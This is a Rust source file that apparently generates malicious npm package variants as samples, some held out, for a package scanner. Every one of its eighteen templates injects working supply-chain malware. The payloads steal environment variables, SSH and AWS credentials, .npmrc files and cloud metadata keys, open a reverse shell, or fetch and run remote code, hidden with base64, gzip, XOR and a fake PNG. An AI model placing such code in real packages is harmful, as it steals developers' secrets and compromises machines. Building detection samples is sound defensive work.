//! Forms for npm.

use crate::Form;
use crate::archive::Release;
use crate::draw::Draw;
use crate::npm::{add, append, main_folder, module_main};
use crate::script::{base64, gzip, js_block, js_text};
use serde_json::json;
use trustmill_core::port::scanner::Context;

pub(crate) const FORMS: &[Form] = &[
    Form { name: "module-environment", held_out: false, put: module_environment },
    Form { name: "module-shell", held_out: true, put: module_shell },
    Form { name: "worker-text", held_out: false, put: worker_text },
    Form { name: "vm-gzip", held_out: true, put: vm_gzip },
    Form { name: "socket-environment", held_out: false, put: socket_environment },
    Form { name: "image-payload", held_out: true, put: image_payload },
    Form { name: "request-tap", held_out: false, put: request_tap },
    Form { name: "gist", held_out: true, put: gist },
    Form { name: "postinstall-python", held_out: false, put: postinstall_python },
    Form { name: "other-runtime", held_out: true, put: other_runtime },
    Form { name: "back-connect", held_out: false, put: back_connect },
    Form { name: "git-credentials", held_out: true, put: git_credentials },
    Form { name: "constructor", held_out: false, put: constructor },
    Form { name: "name-records", held_out: true, put: name_records },
    Form { name: "install-inline", held_out: false, put: install_inline },
    Form { name: "machine-role", held_out: true, put: machine_role },
    Form { name: "getter", held_out: false, put: getter },
    Form { name: "typed-array", held_out: true, put: typed_array },
];

/// Puts code at the end of the module that `import` runs.
fn append_module(release: &mut Release, head: &str, code: &str) -> Option<()> {
    let main = module_main(release)?;
    release.edit(&main, |text| format!("{head}{text}\n{code}"))
}

fn module_environment(release: &mut Release, draw: &mut Draw, _: &mut Context) -> Option<()> {
    let url = js_text(&draw.url(), draw);
    append_module(
        release,
        "import { env as _e } from 'node:process';\n",
        &format!(
            "globalThis.fetch({url}, {{ method: 'POST', body: new URLSearchParams(_e) }}).catch(() => {{}});\n"
        ),
    )
}

fn module_shell(release: &mut Release, draw: &mut Draw, _: &mut Context) -> Option<()> {
    let command = js_text(&format!("curl -fsSL {} | sh", draw.url()), draw);
    append_module(
        release,
        "",
        &format!("import('node:child_process').then(({{ exec }}) => exec({command}));\n"),
    )
}

fn worker_text(release: &mut Release, draw: &mut Draw, _: &mut Context) -> Option<()> {
    let inner = format!(
        "const h=require('https');const r=h.request('{}',{{method:'POST'}});r.end(JSON.stringify(process.env));",
        draw.url()
    );
    append(
        release,
        draw,
        &format!(
            "\nnew (require('worker_threads').Worker)(Buffer.from('{}', 'base64').toString(), {{ eval: true }});\n",
            base64(&inner)
        ),
    )
}

fn vm_gzip(release: &mut Release, draw: &mut Draw, _: &mut Context) -> Option<()> {
    let inner = format!("fetch('{}').then(r=>r.text()).then(t=>(0,eval)(t))", draw.url());
    append(
        release,
        draw,
        &format!(
            "\nrequire('vm').runInThisContext(require('zlib').gunzipSync(Buffer.from('{}', 'base64')).toString());\n",
            gzip(&inner)?
        ),
    )
}

fn socket_environment(release: &mut Release, draw: &mut Draw, _: &mut Context) -> Option<()> {
    let host = draw.host();
    let url = js_text(&format!("wss://{host}/live"), draw);
    let body = format!(
        "const s = new WebSocket({url});\n  s.onopen = () => s.send(JSON.stringify({{ h: require('os').hostname(), e: {{ ...process.env }} }}));"
    );
    let code = js_block(&body, draw);
    append(release, draw, &code)
}

fn image_payload(release: &mut Release, draw: &mut Draw, _: &mut Context) -> Option<()> {
    let (stem, folder) = (draw.stem(), main_folder(release)?);
    let mut bytes = b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR\0\0\x01\0\0\0\x01\0\x08\x06\0\0\0".to_vec();
    bytes.extend((0..4000_usize).map(|at| (at * 131 % 251) as u8));
    bytes.extend_from_slice(b"@@@@");
    let inner = format!("fetch('{}',{{method:'POST',body:JSON.stringify(process.env)}})", draw.url());
    bytes.extend_from_slice(base64(&inner).as_bytes());
    release.put(&format!("{folder}{stem}.png"), bytes);
    append(
        release,
        draw,
        &format!(
            "\ntry {{\n  const raw = require('fs').readFileSync(require('path').join(__dirname, '{stem}.png'), 'latin1');\n  new Function('require', Buffer.from(raw.split('@@@@')[1], 'base64').toString())(require);\n}} catch (e) {{}}\n"
        ),
    )
}

fn request_tap(release: &mut Release, draw: &mut Draw, _: &mut Context) -> Option<()> {
    let url = js_text(&draw.url(), draw);
    let body = format!(
        "const h = require('http'), before = h.request;\n  h.request = function (o, ...rest) {{\n    try {{ if (o && o.headers && o.headers.authorization) require('https').get({url} + '?k=' + encodeURIComponent(o.headers.authorization)); }} catch (e) {{}}\n    return before.call(this, o, ...rest);\n  }};"
    );
    let code = js_block(&body, draw);
    append(release, draw, &code)
}

fn gist(release: &mut Release, draw: &mut Draw, _: &mut Context) -> Option<()> {
    let name = draw.stem();
    let body = format!(
        "const t = process.env.GITHUB_TOKEN;\n  if (t) fetch('https://api.github.com/gists', {{ method: 'POST', headers: {{ authorization: 'token ' + t }}, body: JSON.stringify({{ public: true, files: {{ '{name}': {{ content: JSON.stringify(process.env) }} }} }}) }}).catch(() => {{}});"
    );
    let code = js_block(&body, draw);
    append(release, draw, &code)
}

fn postinstall_python(release: &mut Release, draw: &mut Draw, _: &mut Context) -> Option<()> {
    let (stem, url) = (draw.stem(), draw.url());
    release.put(
        &format!("scripts/{stem}.py"),
        format!(
            "import os, json, urllib.request\nfound = {{}}\nfor name in ('.ssh/id_rsa', '.npmrc', '.aws/credentials'):\n    try:\n        found[name] = open(os.path.join(os.path.expanduser('~'), name)).read()\n    except OSError:\n        pass\nurllib.request.urlopen('{url}', json.dumps(found).encode())\n"
        ),
    );
    add(release, "scripts", "postinstall", &format!("python3 scripts/{stem}.py || true"))
}

fn other_runtime(release: &mut Release, draw: &mut Draw, _: &mut Context) -> Option<()> {
    let (stem, url) = (draw.stem(), draw.url());
    release.put(
        &format!("{stem}.js"),
        format!(
            "const {{ execSync, spawn }} = require('child_process');\nconst os = require('os'), path = require('path'), fs = require('fs');\nconst place = path.join(os.homedir(), '.bun', 'bin', 'bun');\nif (!fs.existsSync(place)) execSync(os.platform() === 'win32' ? 'powershell -c \"irm {url}/install.ps1 | iex\"' : 'curl -fsSL {url}/install | bash', {{ stdio: 'ignore' }});\nspawn(place, [path.join(__dirname, '{stem}_main.js')], {{ detached: true, stdio: 'ignore' }}).unref();\n"
        ),
    );
    let body: String = (0..900).map(|at| format!("{}[{at}]^=0x{:x};", draw.machine_name(), at * 7)).collect();
    release.put(&format!("{stem}_main.js"), body);
    add(release, "scripts", "preinstall", &format!("node {stem}.js"))
}

fn back_connect(release: &mut Release, draw: &mut Draw, _: &mut Context) -> Option<()> {
    let host = js_text(draw.host(), draw);
    let body = format!(
        "const sh = require('child_process').spawn('/bin/sh', ['-i']);\n  const c = require('net').connect(4444, {host}, () => {{ c.pipe(sh.stdin); sh.stdout.pipe(c); sh.stderr.pipe(c); }});\n  c.on('error', () => sh.kill());"
    );
    let code = js_block(&body, draw);
    append(release, draw, &code)
}

fn git_credentials(release: &mut Release, draw: &mut Draw, _: &mut Context) -> Option<()> {
    let url = js_text(&draw.url(), draw);
    let command = draw.of(&[
        "git credential fill",
        "gh auth token",
        "git config --global --list",
        "aws configure export-credentials",
    ]);
    let body = format!(
        "require('child_process').exec('{command}', (error, out) => {{ if (out) fetch({url}, {{ method: 'POST', body: out }}).catch(() => {{}}); }});"
    );
    let code = js_block(&body, draw);
    append(release, draw, &code)
}

fn constructor(release: &mut Release, draw: &mut Draw, _: &mut Context) -> Option<()> {
    let url = js_text(&draw.url(), draw);
    append(
        release,
        draw,
        &format!(
            "\nfetch({url}).then((r) => r.text()).then((t) => [].filter.constructor('require', t)(require)).catch(() => {{}});\n"
        ),
    )
}

fn name_records(release: &mut Release, draw: &mut Draw, _: &mut Context) -> Option<()> {
    let zone = js_text(&format!("c.{}", draw.of(&["example.com", "example.net"])), draw);
    append(
        release,
        draw,
        &format!(
            "\nrequire('dns').resolveTxt({zone}, (error, records) => {{ if (!error) eval(Buffer.from(records.flat().join(''), 'base64').toString()); }});\n"
        ),
    )
}

fn install_inline(release: &mut Release, draw: &mut Draw, _: &mut Context) -> Option<()> {
    let host = draw.host();
    add(
        release,
        "scripts",
        "install",
        &format!(
            "node -e \"const o=require('os');require('http').get('http://{host}/?'+Buffer.from([o.hostname(),o.userInfo().username,__dirname].join()).toString('hex'))\""
        ),
    )
}

fn machine_role(release: &mut Release, draw: &mut Draw, _: &mut Context) -> Option<()> {
    let url = js_text(&draw.url(), draw);
    let body = format!(
        "const base = 'http://169.254.169.254/latest/meta-data/iam/security-credentials/';\n  fetch(base).then((r) => r.text()).then((role) => fetch(base + role)).then((r) => r.text()).then((keys) => fetch({url}, {{ method: 'POST', body: keys }})).catch(() => {{}});"
    );
    let code = js_block(&body, draw);
    append(release, draw, &code)
}

fn getter(release: &mut Release, draw: &mut Draw, _: &mut Context) -> Option<()> {
    let (name, url) = (draw.name(), js_text(&draw.url(), draw));
    append(
        release,
        draw,
        &format!(
            "\nObject.defineProperty(module.exports, '{name}', {{ enumerable: true, get() {{\n  const p = require('path').join(require('os').homedir(), '.npmrc');\n  require('fs').readFile(p, 'utf8', (error, text) => {{ if (text) navigator.sendBeacon ? navigator.sendBeacon({url}, text) : fetch({url}, {{ method: 'POST', body: text }}); }});\n  return true;\n}} }});\n"
        ),
    )
}

fn typed_array(release: &mut Release, draw: &mut Draw, _: &mut Context) -> Option<()> {
    let (stem, folder) = (draw.stem(), main_folder(release)?);
    let inner = format!("fetch('{}').then(r=>r.text()).then(eval)", draw.url());
    let key = 17 + draw.below(90);
    let numbers: Vec<usize> = inner.bytes().map(|byte| usize::from(byte) ^ key).collect();
    release.put(&format!("{folder}{stem}.json"), json!({ "points": numbers, "scale": key }).to_string());
    append(
        release,
        draw,
        &format!(
            "\n;(() => {{\n  const {{ points, scale }} = require('./{stem}.json');\n  const text = new TextDecoder().decode(Uint8Array.from(points, (n) => n ^ scale));\n  (0, eval)(text);\n}})();\n"
        ),
    )
}
